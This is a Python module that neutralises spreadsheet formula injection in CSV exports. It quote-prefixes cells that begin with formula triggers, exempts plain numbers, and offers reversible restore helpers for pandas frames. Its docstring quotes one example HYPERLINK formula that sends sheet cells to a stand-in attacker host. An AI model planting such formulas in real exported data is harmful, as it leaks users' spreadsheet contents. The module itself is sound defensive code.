"""CSV cells that a spreadsheet reads as text, never as a formula.

A spreadsheet runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and some also
after a leading tab or carriage return) as a formula, so a prompt such as
``=HYPERLINK("http://ev.il/?leak="&A2, "Open")`` in a downloaded summary would leak the
sheet's other cells when clicked. ``safe_cell`` prefixes such text with ``'`` (shown as
text by Excel, LibreOffice and Google Sheets); numbers, and strings that are plain
numbers such as ``-3``, pass unchanged, so numeric columns stay numeric.

The prefix is reversible (``restore_cell``): text that already begins with quotes and a
trigger gets one more quote, so a file the library reads back (evaluation results) holds
exactly the text it wrote.
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

__all__ = [
    "FORMULA_TRIGGERS",
    "csv_text",
    "restore_cell",
    "restore_frame",
    "safe_cell",
    "safe_frame",
]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A signed decimal number ("-3", "+2.5e-3") is data a sheet shows as a number, not a formula.
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")  # what safe_cell wrote: quotes, then a trigger


def safe_cell(value: Any) -> Any:
    """``value`` unchanged, unless it is text a spreadsheet would run: then ``"'" + value``.

    Text that begins with quotes and then a trigger (``'=x``) gets one more quote too, so
    that ``restore_cell`` can undo exactly what was added.
    """
    if not isinstance(value, str) or not value.startswith((*FORMULA_TRIGGERS, "'")):
        return value
    if value.startswith("'"):
        return "'" + value if _QUOTED.match(value) else value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def restore_cell(value: Any) -> Any:
    """The inverse of ``safe_cell``: one leading quote removed where ``safe_cell`` added it."""
    if isinstance(value, str) and _QUOTED.match(value):
        return value[1:]
    return value


def _text_columns(frame: pd.DataFrame) -> list[Any]:
    return [
        c
        for c in frame.columns
        if frame[c].dtype == object or pd.api.types.is_string_dtype(frame[c])
    ]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell (and column name) passed through ``safe_cell``.

    Only object/string columns are touched: numeric columns keep their dtype.
    """
    out = frame.copy()
    for column in _text_columns(out):
        out[column] = out[column].map(safe_cell)
    out.columns = [safe_cell(c) for c in out.columns]
    return out


def restore_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` read back from a ``safe_frame`` CSV, its text cells as they were written."""
    out = frame.copy()
    for column in _text_columns(out):
        out[column] = out[column].map(restore_cell)
    out.columns = [restore_cell(c) for c in out.columns]
    return out


def csv_text(frame: pd.DataFrame) -> str:
    """``frame`` as CSV text (no index) with every text cell neutralised by ``safe_cell``."""
    return safe_frame(frame).to_csv(index=False)
